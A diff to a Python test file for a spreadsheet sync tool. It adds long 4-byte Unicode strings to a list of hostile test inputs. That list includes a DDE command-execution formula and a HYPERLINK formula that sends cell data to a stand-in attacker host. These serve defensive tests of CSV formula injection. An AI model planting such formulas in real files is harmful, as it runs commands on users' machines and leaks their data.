@@ -47,6 +47,16 @@ from .support_sheets import (
 )
 
 SOAK = os.environ.get("SYNCCORE_SOAK") == "1"
+
+
+def astral_text(n: int, seed: int) -> str:
+    """n distinct-looking 4-byte characters (CJK Extension B): long in bytes, incompressible."""
+    import random
+
+    rng = random.Random(seed)
+    return "".join(chr(rng.randint(0x20000, 0x2A6DF)) for _ in range(n))
+
+
 HOSTILE = [
     "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -70,6 +80,8 @@ HOSTILE = [
     "\"quoted, with comma\"",
     "x" * 50_000,
     "Ω" * 50_000,
+    astral_text(500, 1),  # 2,000 bytes: two of these overflow PostgreSQL's index entry
+    astral_text(500, 2),
 ]
 NAMES = ["Opeth", "Ghost", "Mgła", "Sigur Rós", "opeth", "OPETH ", "Björk", "Ghost"]
 DATES = [
@@ -333,14 +345,6 @@ def test_failed_rows_csv_of_a_hostile_sheet_opens_as_text(sqlite_url, tmp_path):
         for value in line[1:]:
             assert not value.startswith(FORMULA_PREFIXES), value
     assert any(v == "'=cmd|' /C calc'!A0" for line in exported for v in line)
-
-
-def astral_text(n: int, seed: int) -> str:
-    """n distinct-looking 4-byte characters (CJK Extension B): long in bytes, incompressible."""
-    import random
-
-    rng = random.Random(seed)
-    return "".join(chr(rng.randint(0x20000, 0x2A6DF)) for _ in range(n))
 
 
 def test_names_too_long_for_the_catalog_index_are_a_row_error_not_a_failed_sync(
